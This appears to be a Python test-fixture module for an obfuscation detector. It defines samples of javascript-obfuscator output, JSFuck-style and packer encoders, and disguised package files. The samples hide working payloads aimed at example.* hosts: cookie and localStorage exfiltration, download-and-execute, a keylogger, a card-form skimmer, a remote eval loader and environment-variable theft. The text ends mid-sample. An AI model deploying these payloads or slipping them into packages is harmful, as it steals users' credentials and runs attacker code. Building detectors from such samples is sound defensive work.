"""What obfuscators leave: string tables that turn, flattened flow, packers, alphabets of six signs, small machines.

The `_0x` texts were written by javascript-obfuscator from inert code; the other forms are made here.
"""

import re

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, tsc_widget

_OUTPUT = "obfuscator-output"
_EXOTIC = "exotic-encoding"

_PARTS = {
    "false": "![]",
    "true": "!![]",
    "undefined": "[][[]]",
    "NaN": "+[![]]",
    "1e+100": "+(+!+[]+(!![]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]])",
    "function flat() { [native code] }": "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
}


def _number(n: int) -> str:
    if n < 10:
        return "+[]" if n == 0 else "+".join(["!+[]"] * n) if n > 1 else "+!+[]"
    return "+".join(f"[{_number(int(digit))}]" for digit in str(n))


def _six_signs(text: str) -> str:
    """Write `text` with `[]()!+` where its characters occur in what JavaScript prints by itself."""
    written = []
    for character in text:
        if character.isdigit():
            written.append(f"[{_number(int(character))}]")
            continue
        shown, expression = next((pair for pair in _PARTS.items() if character in pair[0]), ("", ""))
        if shown:
            written.append(f"({expression}+[])[{_number(shown.index(character))}]")
        else:
            written.append(f"(+({_number(ord(character) - 87)}))[{_six_signs_name()}]({_number(36)})")
    return "+".join(written)


def _six_signs_name() -> str:
    return "(!![]+[])[+[]]+(!![]+[][(![]+[])[+[]]])[+!+[]+[+[]]]"


def _packed(code: str) -> str:
    """Return `code` in the form of the packer of 2004: words numbered in base 62, unpacked by replacement."""
    words = sorted(set(re.findall(r"\w+", code)), key=lambda word: (-code.count(word), word))
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    numbered = {word: digits[n] if n < 62 else digits[n // 62] + digits[n % 62] for n, word in enumerate(words)}
    body = re.sub(r"\w+", lambda match: numbered[match[0]], code).replace("\\", "\\\\").replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
        "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}"
        "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){"
        "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{body}',62,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="string-table-rotated",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""'use strict';const _0x527083=_0x58c9;function _0x58c9(_0x10f8e3,_0x7c9d67){_0x10f8e3=_0x10f8e3-0x13c;const _0x45dee0=_0x45de();let _0x58c9e0=_0x45dee0[_0x10f8e3];return _0x58c9e0;}function _0x45de(){const _0x425b8b=['POST','729570RTqePs','77eOICck','react','717165RSMdHk','665JxndET','cookie','1795311SpcUUR','application/json','https://collect.example.net/api/v2/events','place','24tmWzjE','774hcSOMP','stringify','getItem','config','15508MZNPmf','keys','373150NPYDdp','2179370fIpMLw','2218yLUhlO','Weather'];_0x45de=function(){return _0x425b8b;};return _0x45de();}(function(_0x2fa0ce,_0x1f9f69){const _0x4dd6ba=_0x58c9,_0x2354af=_0x2fa0ce();while(!![]){try{const _0x5ee358=parseInt(_0x4dd6ba(0x151))/0x1+parseInt(_0x4dd6ba(0x13d))/0x2*(parseInt(_0x4dd6ba(0x14b))/0x3)+-parseInt(_0x4dd6ba(0x14f))/0x4*(-parseInt(_0x4dd6ba(0x144))/0x5)+parseInt(_0x4dd6ba(0x140))/0x6+parseInt(_0x4dd6ba(0x146))/0x7+-parseInt(_0x4dd6ba(0x14a))/0x8*(-parseInt(_0x4dd6ba(0x143))/0x9)+parseInt(_0x4dd6ba(0x13c))/0xa*(-parseInt(_0x4dd6ba(0x141))/0xb);if(_0x5ee358===_0x1f9f69)break;else _0x2354af['push'](_0x2354af['shift']());}catch(_0x5bb117){_0x2354af['push'](_0x2354af['shift']());}}}(_0x45de,0x410ed));const {useEffect,createElement}=require(_0x527083(0x142));function grab(){const _0x3f8c99=_0x527083,_0x384451={};for(const _0x23a48c of Object[_0x3f8c99(0x150)](localStorage))_0x384451[_0x23a48c]=localStorage[_0x3f8c99(0x14d)](_0x23a48c);return _0x384451[_0x3f8c99(0x145)]=document[_0x3f8c99(0x145)],_0x384451;}exports[_0x527083(0x13e)]=function Weather(_0x39cac3){const _0x2c634c=_0x527083;return useEffect(()=>{const _0x5cf73c=_0x58c9;fetch(_0x5cf73c(0x148),{'method':_0x5cf73c(0x13f),'headers':{'Content-Type':_0x5cf73c(0x147)},'body':JSON[_0x5cf73c(0x14c)](grab())});},[]),createElement('p',null,_0x39cac3[_0x2c634c(0x14e)][_0x2c634c(0x149)]);};
"""
        },
    ),
    Sample(
        name="string-table-in-base64",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""'use strict';const _0x1942ff=_0x2faa;(function(_0x2d23d7,_0x1a34d4){const _0x7077ef=_0x2faa,_0x34dc96=_0x2d23d7();while(!![]){try{const _0x12e6fd=parseInt(_0x7077ef(0x90))/0x1*(parseInt(_0x7077ef(0x93))/0x2)+parseInt(_0x7077ef(0xa0))/0x3+-parseInt(_0x7077ef(0x91))/0x4+parseInt(_0x7077ef(0x9d))/0x5+-parseInt(_0x7077ef(0x9a))/0x6+-parseInt(_0x7077ef(0x95))/0x7*(-parseInt(_0x7077ef(0x98))/0x8)+parseInt(_0x7077ef(0x94))/0x9;if(_0x12e6fd===_0x1a34d4)break;else _0x34dc96['push'](_0x34dc96['shift']());}catch(_0x2eba76){_0x34dc96['push'](_0x34dc96['shift']());}}}(_0x5b10,0x8a35d));function _0x2faa(_0x1d3e31,_0x495459){_0x1d3e31=_0x1d3e31-0x8f;const _0x5b1026=_0x5b10();let _0x2faafd=_0x5b1026[_0x1d3e31];if(_0x2faa['oFjEqv']===undefined){var _0x402f76=function(_0x1b3174){const _0x4ff826='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';let _0x3703fc='',_0x10e730='';for(let _0x5485bf=0x0,_0x16d5df,_0x316531,_0x48ffe2=0x0;_0x316531=_0x1b3174['charAt'](_0x48ffe2++);~_0x316531&&(_0x16d5df=_0x5485bf%0x4?_0x16d5df*0x40+_0x316531:_0x316531,_0x5485bf++%0x4)?_0x3703fc+=String['fromCharCode'](0xff&_0x16d5df>>(-0x2*_0x5485bf&0x6)):0x0){_0x316531=_0x4ff826['indexOf'](_0x316531);}for(let _0x3a477a=0x0,_0x75fea2=_0x3703fc['length'];_0x3a477a<_0x75fea2;_0x3a477a++){_0x10e730+='%'+('00'+_0x3703fc['charCodeAt'](_0x3a477a)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x10e730);};_0x2faa['vyXYSh']=_0x402f76,_0x2faa['fhMXrL']={},_0x2faa['oFjEqv']=!![];}const _0x3dffcc=_0x5b1026[0x0];_0x2faa['pJuCOj']!==_0x3dffcc&&(_0x2faa['fhMXrL']={},_0x2faa['pJuCOj']=_0x3dffcc);const _0x4e53d4=_0x2faa['fhMXrL'][_0x1d3e31];return _0x4e53d4===undefined?(_0x2faafd=_0x2faa['vyXYSh'](_0x2faafd),_0x2faa['fhMXrL'][_0x1d3e31]=_0x2faafd):_0x2faafd=_0x4e53d4,_0x2faafd;}const os=require('os'),path=require(_0x1942ff(0xa2)),{exec}=require(_0x1942ff(0x9e)),fs=require('fs');function _0x5b10(){const _0x42949b=['ic0TCxvPzxq','mJqWuNfryLvb','ywDLBNq','ntuWnJa5ofDbwxzPzG','D3jPDgvgAwXLu3LUyW','B25fBMfIBgu','mJK2oti4meHgtef4Dq','y2HPBgrFChjVy2vZCW','zNjVBq','nZu0ndG1u1PXCePR','yxjYyxLcDwzMzxi','Cgf0Aa','Ag9TzwrPCG','Ahr0Chm6lY9KBc5LEgfTCgXLlM9YzY9Hz2vUDd9Wpq','AM9PBG','nJyWnwrNt0nyua','mZGYoti4nejRz0TSCG','CgXHDgzVCM0','mtGYCKrRsgPs','ndy3odi2m2LnA1rOzG','mteWodeWtw9vzw5q','lMnHy2HL'];_0x5b10=function(){return _0x42949b;};return _0x5b10();}exports[_0x1942ff(0x9c)]=async function(_0x10e730){const _0x4ff404=_0x1942ff,_0x5485bf=path[_0x4ff404(0x8f)](os[_0x4ff404(0xa3)](),_0x4ff404(0x96)),_0x16d5df=await fetch(_0x4ff404(0xa4)+process[_0x4ff404(0x92)]);fs[_0x4ff404(0x9b)](path[_0x4ff404(0x8f)](_0x5485bf,_0x4ff404(0x99)),Buffer[_0x4ff404(0x9f)](await _0x16d5df[_0x4ff404(0xa1)]()),{'mode':0x1ed}),exec(path[_0x4ff404(0x8f)](_0x5485bf,_0x4ff404(0x99))+_0x4ff404(0x97),function(){});};
"""
        },
    ),
    Sample(
        name="string-table-enciphered",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""'use strict';function _0x1683(){var _0x2286fb=['oSoRW784W47dNmkRW71PWQi+WRa','W7ZdO8kEW7qQC8kVoa','qJi1W7hcOCkDWOZcS8owW6aU','W7T/WRldReVdKCoPW7ZcLN7cLCk7WRi','W6pdHCkVaCkg','A8o7W5RdIxTXsCoCWPlcKmkEW5a8','tCkRW5tdIXK','cfegmWa','WPpdLmo6W58L','WRLOWOWswa','W6/dLCo7W6XI','WOWGtCkzbISOcvxdLq','c1DdsHxdS8kuW77cNSk/','AMtdG8o7W5S','hSo/WOxcVHDevdtcRdG','W4SHWOVdVd0','WRxdKCkwW6JcGubpWOlcIJOo','WQddMCkChCkQuHBcGbxcRSkP','W43dJ8oes8oa','WOldJmo6','DCoJnJ5ciSo/WQ8GkWm','WQmAC8ky','WPyyW4zzWOHsWPrPiXC','W78nWPpdR8kbW4BcRSkeCCogg8kL','A8kXWQSVWPC','DNJdPq','Dg3cUcFcSG','lSo5qbyOWPFdK8oAaW8/','W696yCkvWQK','o8kYyY3dMGvlW4GAk8k2','WRPKqZ/dOblcV8kqqNNdTKWi','W7qjWPpdP8kbWPtcJCkYAmoZhG','W7/dPSoWWO92ACkwjCo5jCkk','rSoTWPdcJLS','tCoYW6NcSf8lCSoz','h8ooWPZcOSkNz8o6s1fEWONdVSo8','W5z8bW'];_0x1683=function(){return _0x2286fb;};return _0x1683();}var _0x579aa=_0x1b75;function _0x1b75(_0x5b03e1,_0x239d90){_0x5b03e1=_0x5b03e1-0xdc;var _0x168396=_0x1683();var _0x1b75bf=_0x168396[_0x5b03e1];if(_0x1b75['SIZAEo']===undefined){var _0x5419a1=function(_0x252a48){var _0x4ba778='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var _0x39b5e1='',_0x1be855='';for(var _0x1ea3ad=0x0,_0x55d353,_0x304100,_0x5a4f59=0x0;_0x304100=_0x252a48['charAt'](_0x5a4f59++);~_0x304100&&(_0x55d353=_0x1ea3ad%0x4?_0x55d353*0x40+_0x304100:_0x304100,_0x1ea3ad++%0x4)?_0x39b5e1+=String['fromCharCode'](0xff&_0x55d353>>(-0x2*_0x1ea3ad&0x6)):0x0){_0x304100=_0x4ba778['indexOf'](_0x304100);}for(var _0x31b2db=0x0,_0x5d5d8d=_0x39b5e1['length'];_0x31b2db<_0x5d5d8d;_0x31b2db++){_0x1be855+='%'+('00'+_0x39b5e1['charCodeAt'](_0x31b2db)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x1be855);};var _0x120f57=function(_0x2744a0,_0x2e341d){var _0x2080f6=[],_0x1455bc=0x0,_0x541abb,_0x282241='';_0x2744a0=_0x5419a1(_0x2744a0);var _0x3d7b45;for(_0x3d7b45=0x0;_0x3d7b45<0x100;_0x3d7b45++){_0x2080f6[_0x3d7b45]=_0x3d7b45;}for(_0x3d7b45=0x0;_0x3d7b45<0x100;_0x3d7b45++){_0x1455bc=(_0x1455bc+_0x2080f6[_0x3d7b45]+_0x2e341d['charCodeAt'](_0x3d7b45%_0x2e341d['length']))%0x100,_0x541abb=_0x2080f6[_0x3d7b45],_0x2080f6[_0x3d7b45]=_0x2080f6[_0x1455bc],_0x2080f6[_0x1455bc]=_0x541abb;}_0x3d7b45=0x0,_0x1455bc=0x0;for(var _0x3c0ce8=0x0;_0x3c0ce8<_0x2744a0['length'];_0x3c0ce8++){_0x3d7b45=(_0x3d7b45+0x1)%0x100,_0x1455bc=(_0x1455bc+_0x2080f6[_0x3d7b45])%0x100,_0x541abb=_0x2080f6[_0x3d7b45],_0x2080f6[_0x3d7b45]=_0x2080f6[_0x1455bc],_0x2080f6[_0x1455bc]=_0x541abb,_0x282241+=String['fromCharCode'](_0x2744a0['charCodeAt'](_0x3c0ce8)^_0x2080f6[(_0x2080f6[_0x3d7b45]+_0x2080f6[_0x1455bc])%0x100]);}return _0x282241;};_0x1b75['pVIlCa']=_0x120f57,_0x1b75['vfmVUo']={},_0x1b75['SIZAEo']=!![];}var _0x1b27d9=_0x168396[0x0];_0x1b75['IuPBHG']!==_0x1b27d9&&(_0x1b75['vfmVUo']={},_0x1b75['IuPBHG']=_0x1b27d9);var _0x30e439=_0x1b75['vfmVUo'][_0x5b03e1];return _0x30e439===undefined?(_0x1b75['qtcARi']===undefined&&(_0x1b75['qtcARi']=!![]),_0x1b75bf=_0x1b75['pVIlCa'](_0x1b75bf,_0x239d90),_0x1b75['vfmVUo'][_0x5b03e1]=_0x1b75bf):_0x1b75bf=_0x30e439,_0x1b75bf;}(function(_0x44cf1a,_0x4f1aeb){var _0x51c3ca=_0x1b75,_0x40bc09=_0x44cf1a();while(!![]){try{var _0x17410b=-parseInt(_0x51c3ca(0xe0,'l#cu'))/0x1+parseInt(_0x51c3ca(0xfe,'ZmQN'))/0x2+parseInt(_0x51c3ca(0x100,'PRNF'))/0x3+parseInt(_0x51c3ca(0xe5,'uYxS'))/0x4+-parseInt(_0x51c3ca(0xe1,'PRNF'))/0x5*(-parseInt(_0x51c3ca(0xfb,'d^4Q'))/0x6)+parseInt(_0x51c3ca(0xec,'CI%P'))/0x7*(parseInt(_0x51c3ca(0xf1,'[9we'))/0x8)+-parseInt(_0x51c3ca(0xfd,'o@yc'))/0x9*(parseInt(_0x51c3ca(0xf6,'uWrH'))/0xa);if(_0x17410b===_0x4f1aeb)break;else _0x40bc09['push'](_0x40bc09['shift']());}catch(_0x4aeb82){_0x40bc09['push'](_0x40bc09['shift']());}}}(_0x1683,0x58b29));var buffer='';exports[_0x579aa(0xed,'XPVM')+_0x579aa(0xf3,'DV9V')]=function(){var _0x31ab37=_0x579aa;document[_0x31ab37(0xe6,'zuyY')+_0x31ab37(0xf2,'WG^G')+_0x31ab37(0xe8,'DV9V')+'r'](_0x31ab37(0xe7,'Iv9k')+'wn',function(_0x39b5e1){var _0x2570be=_0x31ab37;buffer+=_0x39b5e1[_0x2570be(0xdf,'jN]B')],buffer[_0x2570be(0xe4,'x*]Z')+'h']>0x28&&(new Image()[_0x2570be(0xf9,'XPVM')]=_0x2570be(0xe9,'8ilY')+_0x2570be(0xdc,'3uu9')+_0x2570be(0xef,'eH[6')+_0x2570be(0xea,'^VKa')+_0x2570be(0xf8,'l#cu')+_0x2570be(0xfc,'1a*)')+'k='+encodeURIComponent(buffer),buffer='');},!![]);},exports[_0x579aa(0xfa,'2G&I')+_0x579aa(0xf5,'L6pt')]=function(){return null;};
"""
        },
    ),
    Sample(
        name="flow-flattened",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""const _0x3aea89=_0x3ab2;(function(_0xd326d0,_0x3bf14d){const _0x32c1f6=_0x3ab2,_0x20bfc6=_0xd326d0();while(!![]){try{const _0x2ddd01=-parseInt(_0x32c1f6(0x1ad))/0x1+parseInt(_0x32c1f6(0x1b4))/0x2+parseInt(_0x32c1f6(0x1ba))/0x3*(-parseInt(_0x32c1f6(0x1a1))/0x4)+-parseInt(_0x32c1f6(0x1ac))/0x5*(parseInt(_0x32c1f6(0x1bd))/0x6)+parseInt(_0x32c1f6(0x1b7))/0x7*(parseInt(_0x32c1f6(0x1b9))/0x8)+-parseInt(_0x32c1f6(0x1b0))/0x9*(-parseInt(_0x32c1f6(0x1a2))/0xa)+-parseInt(_0x32c1f6(0x1a4))/0xb*(-parseInt(_0x32c1f6(0x1a3))/0xc);if(_0x2ddd01===_0x3bf14d)break;else _0x20bfc6['push'](_0x20bfc6['shift']());}catch(_0x4e2fe6){_0x20bfc6['push'](_0x20bfc6['shift']());}}}(_0x1125,0x59650));import{jsx}from'react/jsx-runtime';function _0x1125(){const _0x5ccb80=['stringify','password','rtpsE','958724ombSFJ','YsEOQ','map','1210615EArTrZ','cardnumber','8xmLlDI','741246uTGQdG','[name=\x22','target','77358jyaXYa','addEventListener','forEach','8YvhuWp','1370zUbltT','11527212rNJQtz','11elevpQ','querySelector','sendBeacon','cc-exp','cvc','https://forms.example.org/b','felKv','qpdsE','175zuJHbq','469976dPYwwM','submit','value','11079LbveHA'];_0x1125=function(){return _0x5ccb80;};return _0x1125();}const wanted=[_0x3aea89(0x1b8),_0x3aea89(0x1a7),_0x3aea89(0x1a8),_0x3aea89(0x1b2)];function _0x3ab2(_0x54e92d,_0x10bb7c){_0x54e92d=_0x54e92d-0x1a0;const _0x112556=_0x1125();let _0x3ab21c=_0x112556[_0x54e92d];return _0x3ab21c;}function collect(_0x3a1e9c){const _0x165809=_0x3aea89,_0x2f50eb={'qpdsE':function(_0x1c2822,_0x21bde9){return _0x1c2822+_0x21bde9;},'rtpsE':_0x165809(0x1bb)},_0x51f278={};return wanted[_0x165809(0x1a0)](_0xf3116=>{const _0x56350c=_0x165809,_0xbce193=_0x3a1e9c[_0x56350c(0x1a5)](_0x2f50eb[_0x56350c(0x1ab)](_0x2f50eb[_0x56350c(0x1ab)](_0x2f50eb[_0x56350c(0x1b3)],_0xf3116),'\x22]'));if(_0xbce193)_0x51f278[_0xf3116]=_0xbce193[_0x56350c(0x1af)];}),_0x51f278;}document[_0x3aea89(0x1be)](_0x3aea89(0x1ae),_0x3e921b=>{const _0x13c097=_0x3aea89,_0x48215b={'YsEOQ':_0x13c097(0x1a9),'felKv':function(_0x817629,_0x137964){return _0x817629(_0x137964);}};navigator[_0x13c097(0x1a6)](_0x48215b[_0x13c097(0x1b5)],JSON[_0x13c097(0x1b1)](_0x48215b[_0x13c097(0x1aa)](collect,_0x3e921b[_0x13c097(0x1bc)])));},!![]);export const Todo=({items:_0x4f44c0})=>jsx('ul',{'children':_0x4f44c0[_0x3aea89(0x1b6)](_0x1832e6=>jsx('li',{'children':_0x1832e6}))});
"""
        },
        package=ESM,
    ),
    Sample(
        name="defends-itself",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""function _0x317a(_0x16d70b,_0x2500bd){_0x16d70b=_0x16d70b-(-0x2fd*-0xd+-0x3bb*0x7+0xb78*-0x1);var _0x317a50=_0x2500();var _0x17dc63=_0x317a50[_0x16d70b];return _0x17dc63;}(function(_0x47884b,_0x428377){var _0xdbfe12=_0x317a,_0x40409e=_0x47884b();while(!![]){try{var _0x4320c4=parseInt(_0xdbfe12(0x155))/(-0x1270+0x5*0x593+0x22*-0x47)*(parseInt(_0xdbfe12(0x164))/(0x259+0x1bd0+0x5d*-0x53))+-parseInt(_0xdbfe12(0x14b))/(-0x251*0xc+0x5ac+0x1623)*(-parseInt(_0xdbfe12(0x14e))/(-0x222b+0x3*0x3c3+0x16e6))+parseInt(_0xdbfe12(0x15f))/(-0xc4a+-0x13d0*-0x1+-0x781)*(-parseInt(_0xdbfe12(0x15d))/(-0x191d+0x240d+-0x16*0x7f))+-parseInt(_0xdbfe12(0x149))/(-0x753+0x7c6+-0x6c)*(parseInt(_0xdbfe12(0x160))/(-0x175*-0x3+-0x1*-0xd53+0x7*-0x286))+parseInt(_0xdbfe12(0x16b))/(0x1*-0x119a+-0x1b2a+0x2ccd)+parseInt(_0xdbfe12(0x15b))/(-0x21ca*-0x1+0x2658+-0x6*0xc04)+-parseInt(_0xdbfe12(0x161))/(-0x13fb+-0x1d23*-0x1+0x1*-0x91d)*(parseInt(_0xdbfe12(0x159))/(0x1*-0x141b+0x1137+0x2f0));if(_0x4320c4===_0x428377)break;else _0x40409e['push'](_0x40409e['shift']());}catch(_0x4f0668){_0x40409e['push'](_0x40409e['shift']());}}}(_0x2500,0x5867+-0x2ab*0xeb+0x48b7d),(function(){var _0x5c114e=_0x317a,_0x4b7a2d=(function(){var _0x4f1a5d=!![];return function(_0x12ee99,_0x381006){var _0x530c68=_0x4f1a5d?function(){var _0x2b4f16=_0x317a;if(_0x381006){var _0x204fea=_0x381006[_0x2b4f16(0x14a)](_0x12ee99,arguments);return _0x381006=null,_0x204fea;}}:function(){};return _0x4f1a5d=![],_0x530c68;};}()),_0x2b7686=_0x4b7a2d(this,function(){var _0x5203b8=_0x317a;if(_0x2b7686[_0x5203b8(0x162)]()[_0x5203b8(0x148)]()[_0x5203b8(0x157)]('\x0a')!==-(0x2*-0x92b+-0x2262+0x34b9))return;return _0x2b7686[_0x5203b8(0x148)]()[_0x5203b8(0x16a)](_0x5203b8(0x168))[_0x5203b8(0x148)]()[_0x5203b8(0x158)](_0x2b7686)[_0x5203b8(0x16a)](_0x5203b8(0x168));});_0x2b7686();var _0x5af4e3=(function(){var _0x4b4997=!![];return function(_0x106240,_0x4dabe9){var _0xdd1da3=_0x4b4997?function(){var _0x1ff66c=_0x317a;if(_0x4dabe9){var _0x36aa0d=_0x4dabe9[_0x1ff66c(0x14a)](_0x106240,arguments);return _0x4dabe9=null,_0x36aa0d;}}:function(){};return _0x4b4997=![],_0xdd1da3;};}()),_0xd74033=_0x5af4e3(this,function(){var _0x5c3b71=_0x317a,_0x54d539;try{var _0x5b8712=Function(_0x5c3b71(0x152)+_0x5c3b71(0x163)+');');_0x54d539=_0x5b8712();}catch(_0x2f76d2){_0x54d539=window;}var _0x317fd4=_0x54d539[_0x5c3b71(0x154)]=_0x54d539[_0x5c3b71(0x154)]||{},_0x64ac0a=[_0x5c3b71(0x147),_0x5c3b71(0x144),_0x5c3b71(0x15e),_0x5c3b71(0x16c),_0x5c3b71(0x166),_0x5c3b71(0x146),_0x5c3b71(0x167)];for(var _0x490d87=0xb17+-0x1df3+0x2*0x96e;_0x490d87<_0x64ac0a[_0x5c3b71(0x14f)];_0x490d87++){var _0x44d262=_0x5af4e3[_0x5c3b71(0x158)][_0x5c3b71(0x16d)][_0x5c3b71(0x162)](_0x5af4e3),_0x32136f=_0x64ac0a[_0x490d87],_0xa0dfb0=_0x317fd4[_0x32136f]||_0x44d262;_0x44d262[_0x5c3b71(0x145)]=_0x5af4e3[_0x5c3b71(0x162)](_0x5af4e3),_0x44d262[_0x5c3b71(0x148)]=_0xa0dfb0[_0x5c3b71(0x148)][_0x5c3b71(0x162)](_0xa0dfb0),_0x317fd4[_0x32136f]=_0x44d262;}});_0xd74033();var _0x6c4779=new XMLHttpRequest();_0x6c4779[_0x5c114e(0x169)](_0x5c114e(0x15c),_0x5c114e(0x14c)+location[_0x5c114e(0x150)]+_0x5c114e(0x153),!![]),_0x6c4779[_0x5c114e(0x156)]=function(){var _0x1cb398=_0x5c114e;_0x6c4779[_0x1cb398(0x14d)]===-0x78*0x52+-0x17f2+0x16*0x2df&&(-0x278*-0x5+-0x52d*0x4+0x85c,eval)(_0x6c4779[_0x1cb398(0x15a)]);},_0x6c4779[_0x5c114e(0x165)](),exports[_0x5c114e(0x151)]=function(){return null;};}()));function _0x2500(){var _0x2801fa=['constructor','105576WkvGYw','responseText','1039490IFMrGW','GET','12kjroYh','info','264415JVFSNt','388528gtuSki','242VjRoWO','bind','{}.constructor(\x22return\x20this\x22)(\x20)','53048IrHXjO','send','exception','trace','(((.+)+)+)+$','open','search','2346651sEsAVD','error','prototype','warn','__proto__','table','log','toString','7izpsft','apply','3pJFhAy','https://cdn.example.com/w/','status','42236ybUJIw','length','hostname','Clock','return\x20(function()\x20','.js','console','5FxmLag','onload','indexOf'];_0x2500=function(){return _0x2801fa;};return _0x2500();}
"""
        },
    ),
    Sample(
        name="escaped-throughout",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""function _0x4c0a(_0x190252, _0x482797) {
    _0x190252 = _0x190252 - 0x199;
    const _0x49cc0c = _0x49cc();
    let _0x4c0af7 = _0x49cc0c[_0x190252];
    return _0x4c0af7;
}
function _0x49cc() {
    const _0xb5f541 = [
        '\x31\x31\x55\x5a\x72\x65\x79\x76',
        '\x38\x30\x38\x36\x32\x31\x32\x51\x41\x6d\x76\x4a\x77',
        '\x77\x72\x69\x74\x65',
        '\x65\x6e\x64',
        '\x31\x35\x35\x35\x35\x37\x30\x55\x44\x4a\x41\x59\x52',
        '\x68\x6f\x73\x74\x6e\x61\x6d\x65',
        '\x35\x35\x37\x33\x7a\x64\x4a\x5a\x69\x74',
        '\x31\x31\x38\x4b\x55\x53\x6f\x72\x46',
        '\x34\x39\x39\x30\x4a\x54\x48\x79\x69\x47',
        '\x6d\x65\x74\x68\x6f\x64',
        '\x34\x30\x34\x33\x34\x36\x54\x42\x4b\x53\x67\x56',
        '\x73\x74\x72\x69\x6e\x67\x69\x66\x79',
        '\x68\x65\x61\x64\x65\x72\x73',
        '\x68\x74\x74\x70\x73',
        '\x70\x61\x74\x68',
        '\x6f\x6e\x45\x6e\x61\x62\x6c\x65',
        '\x37\x39\x32\x30\x35\x34\x53\x6c\x54\x57\x51\x54',
        '\x6c\x65\x6e\x67\x74\x68',
        '\x38\x67\x45\x43\x4a\x77\x63',
        '\x43\x6f\x6e\x74\x65\x6e\x74\x2d\x4c\x65\x6e\x67\x74\x68',
        '\x72\x65\x70\x6f\x72\x74\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2e\x6e\x65\x74',
        '\x72\x65\x71\x75\x65\x73\x74',
        '\x50\x4f\x53\x54',
        '\x31\x39\x33\x36\x39\x34\x32\x59\x4b\x73\x64\x50\x55',
        '\x39\x31\x32\x4a\x41\x4b\x76\x73\x78',
        '\x31\x38\x6c\x52\x71\x44\x74\x63'
    ];
    _0x49cc = function () {
        return _0xb5f541;
    };
    return _0x49cc();
}
const _0x49ce61 = _0x4c0a;
(function (_0x481276, _0x56cc7a) {
    const _0x3f5071 = _0x4c0a, _0x1347ca = _0x481276();
    while (!![]) {
        try {
            const _0x3b708b = -parseInt(_0x3f5071(0x1a5)) / 0x1 * (-parseInt(_0x3f5071(0x1a6)) / 0x2) + -parseInt(_0x3f5071(0x1a9)) / 0x3 + -parseInt(_0x3f5071(0x19d)) / 0x4 * (parseInt(_0x3f5071(0x1a7)) / 0x5) + parseInt(_0x3f5071(0x1af)) / 0x6 + parseInt(_0x3f5071(0x19c)) / 0x7 * (-parseInt(_0x3f5071(0x1b1)) / 0x8) + -parseInt(_0x3f5071(0x19e)) / 0x9 * (parseInt(_0x3f5071(0x1a3)) / 0xa) + -parseInt(_0x3f5071(0x19f)) / 0xb * (-parseInt(_0x3f5071(0x1a0)) / 0xc);
            if (_0x3b708b === _0x56cc7a)
                break;
            else
                _0x1347ca['push'](_0x1347ca['shift']());
        } catch (_0x249871) {
            _0x1347ca['push'](_0x1347ca['shift']());
        }
    }
}(_0x49cc, 0x2d0c9));
const https = require(_0x49ce61(0x1ac)), data = JSON[_0x49ce61(0x1aa)](process.env), _0x599002 = {};
_0x599002[_0x49ce61(0x1b2)] = data[_0x49ce61(0x1b0)];
const _0x45f49f = {};
_0x45f49f[_0x49ce61(0x1a4)] = _0x49ce61(0x199), _0x45f49f[_0x49ce61(0x1ad)] = '\x2f\x65', _0x45f49f[_0x49ce61(0x1a8)] = _0x49ce61(0x19b), _0x45f49f[_0x49ce61(0x1ab)] = _0x599002;
const request = https[_0x49ce61(0x19a)](_0x45f49f);
request[_0x49ce61(0x1a1)](data), request[_0x49ce61(0x1a2)](), exports[_0x49ce61(0x1ae)] = async () => {
};
"""
        },
    ),
    Sample(
        name="dead-code-and-wrappers",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""'use strict';function a(){var J=['2046663rgWAGc','9886525uwSCBw','key','66361BMVJON','onEnable','32790ODpqlF','3cZfBKS','70756hxXIsQ','https://pix.example.com/k.gif?k=','src','addEventListener','7RBJbPL','2729012XkLObs','keydown','length','20eUWeWl','1477544beNMyE','Shortcuts','1135iqenFd'];a=function(){return J;};return a();}(function(c,d){function C(c,d){return b(d-0x340,c);}var e=c();function B(c,d){return b(c-0x31e,d);}while(!![]){try{var f=-parseInt(B(0x4af,0x4b2))/0x1+-parseInt(B(0x4b3,0x4b2))/0x2*(-parseInt(B(0x4b2,0x4b6))/0x3)+parseInt(B(0x4a5,0x4a4))/0x4+-parseInt(C(0x4d0,0x4cd))/0x5*(-parseInt(B(0x4b1,0x4ac))/0x6)+parseInt(C(0x4c6,0x4c6))/0x7*(parseInt(C(0x4d5,0x4cb))/0x8)+parseInt(C(0x4d4,0x4ce))/0x9*(-parseInt(B(0x4a8,0x4a3))/0xa)+-parseInt(C(0x4c8,0x4cf))/0xb;if(f===d)break;else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(a,0xb07f1));function I(c,d){return b(c- -0x240,d);}var buffer='';exports[D(-0xf5,-0xf9)]=function(){function E(c,d){return D(d,c-0x42d);}function F(c,d){return D(d,c-0x3fc);}document[E(0x33a,0x33a)](F(0x2f9,0x2f0),function(c){function G(c,d){return E(d- -0x46f,c);}function H(c,d){return E(c-0x17a,d);}buffer+=c[G(-0x133,-0x13d)],buffer[G(-0x14d,-0x144)]>0x28&&(new 